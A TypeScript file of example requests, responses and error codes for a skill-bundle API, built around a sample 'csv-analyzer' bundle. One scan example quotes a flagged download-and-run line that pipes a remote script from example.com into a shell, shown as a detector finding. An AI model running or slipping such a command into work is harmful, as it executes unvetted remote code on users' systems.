import type { ErrorCode } from '@guildhall/kernel';
import type { Examples } from './example.js';

const SKILL_MD = '---\nname: csv-analyzer\ndescription: Analyze CSV files.\nlicense: MIT\n---\n\nRun scripts/analyze.py.\n';

const FILES = [
  {
    path: 'SKILL.md',
    size: 97,
    sha256: '1f5d1b2a9c851f0587d2d0a4b1a9a5b8a5c0d3f8e7b6a5948372615049382716',
    mediaType: 'text/markdown; charset=utf-8',
    executable: false,
  },
  {
    path: 'scripts/analyze.py',
    size: 12,
    sha256: 'ad64355106bb158b020ecf9702be48f7730fc091dd4bb6a2f092b40393495b3d',
    mediaType: 'text/plain; charset=utf-8',
    executable: true,
  },
];

const DIGEST = 'e57500329a35700d426921fe3835fea3157680d3a1cf789af51f613c804ca3fa';

const HEAD = {
  digest: DIGEST,
  fileCount: 2,
  size: 109,
  license: 'MIT',
  compatibility: null,
  allowedTools: null,
  metadata: {},
  userInvocable: true,
  disableModelInvocation: false,
  argumentHint: null,
  context: 'inline',
  agent: null,
  model: null,
};

const SKILL = {
  id: '65f1c0de9a1b2c3d4e5f6030',
  account: { id: 'acc_65f1c0de9a1b2c3d4e5f6001', slug: 'acme', name: 'Acme' },
  name: 'csv-analyzer',
  title: 'Csv Analyzer',
  description: 'Analyze CSV files.',
  kind: 'bundle',
  status: 'active',
  access: 'private',
  listed: false,
  dispatchable: false,
  modelStrategy: 'medium',
  tags: [],
  contentVisibility: 'transparent',
  whenToUse: null,
  variables: [],
  toolDefs: [],
  pricing: { model: 'free' },
  outputSchema: null,
  models: [],
  http: null,
  mcp: null,
  bundle: HEAD,
  approvalMode: 'auto',
  fork: null,
  importedFrom: null,
  deprecated: null,
  installCount: 0,
  rating: { average: null, count: 0 },
  version: null,
  createdAt: '2026-03-02T09:00:14.000Z',
  updatedAt: '2026-03-02T09:00:14.000Z',
  installation: {
    id: 'inst_65f1c0de9a1b2c3d4e5f6031',
    source: 'own',
    shared: true,
    locked: false,
    alias: null,
    status: 'live',
    version: 'latest',
    update: null,
  },
};

const REQUEST = {
  files: [
    { path: 'SKILL.md', content: SKILL_MD },
    { path: 'scripts/analyze.py', content: "print('ok')\n", executable: true },
  ],
};

const FILE_RULES: readonly ErrorCode[] = [
  'archive_file_too_large',
  'archive_name_duplicate',
  'archive_name_invalid',
  'archive_path_traversal',
  'archive_too_many_entries',
  'archive_too_many_files',
  'archive_total_too_large',
  'invalid_skill_md',
  'skill_md_missing',
  'skill_md_not_utf8',
];

const ARCHIVE_RULES: readonly ErrorCode[] = [
  ...FILE_RULES,
  'archive_data_corrupt',
  'archive_encrypted',
  'archive_entry_type',
  'archive_extra_bytes',
  'archive_header_mismatch',
  'archive_method',
  'archive_multi_disk',
  'archive_not_zip',
  'archive_structure',
  'archive_too_large',
  'archive_zip64',
];

/** Where the bytes are kept may be away or full, whatever is asked of it. */
const STORE: readonly ErrorCode[] = ['storage_unavailable', 'storage_full'];

const PLACE = { skillId: SKILL.id };
const FILE_PLACE = { ...PLACE, path: 'scripts/analyze.py' };

export const BUNDLES: Examples = {
  bundles_create: {
    request: REQUEST,
    response: { ok: true, success: true, skill: SKILL },
    errors: [...ARCHIVE_RULES, ...STORE, 'skill_name_taken'],
  },
  bundles_validate: {
    request: { skillMd: '---\nname: CSV\n---\n' },
    response: {
      ok: true,
      success: true,
      valid: false,
      errors: [
        {
          path: 'SKILL.md',
          code: 'name_characters',
          message: 'name: must contain only lowercase letters, numbers, and hyphens',
          line: 2,
        },
        { path: 'SKILL.md', code: 'field_required', message: 'description: required field missing' },
      ],
      warnings: [],
    },
  },
  bundles_read: {
    parameters: PLACE,
    response: { ok: true, success: true, bundle: { name: SKILL.name, description: SKILL.description, ...HEAD, files: FILES } },
    errors: ['not_a_bundle'],
  },
  bundles_replace: {
    parameters: PLACE,
    request: REQUEST,
    response: { ok: true, success: true, skill: SKILL },
    errors: [...ARCHIVE_RULES, ...STORE, 'not_a_bundle', 'skill_name_taken'],
  },
  bundles_download: { parameters: PLACE, response: 'PK…, the bytes of the zip', errors: ['not_a_bundle', 'storage_unavailable'] },
  bundles_list: {
    parameters: PLACE,
    response: { ok: true, success: true, files: FILES, digest: DIGEST, total: 2, page: 1, limit: 50, perPage: 50 },
    errors: ['not_a_bundle'],
  },
  bundles_scan: {
    parameters: PLACE,
    response: {
      ...{ ok: true, success: true, digest: DIGEST },
      findings: [{ code: 'download_and_run', path: 'scripts/install.sh', line: 3, excerpt: 'curl -fsSL https://example.com/i.sh | sh' }],
    },
    errors: ['not_a_bundle', 'storage_unavailable'],
  },
  bundles_readFile: { parameters: FILE_PLACE, response: "print('ok')\n", errors: ['not_a_bundle', 'storage_unavailable'] },
  bundles_writeFile: {
    parameters: FILE_PLACE,
    request: "print('ok')\n",
    response: { ok: true, success: true, file: FILES[1], digest: DIGEST },
    errors: [...FILE_RULES, ...STORE, 'not_a_bundle', 'skill_name_taken', 'overloaded'],
  },
  bundles_deleteFile: {
    parameters: FILE_PLACE,
    response: { ok: true, success: true, file: { path: 'scripts/analyze.py', deleted: true }, digest: DIGEST },
    errors: ['skill_md_missing', ...STORE, 'not_a_bundle', 'overloaded'],
  },
};
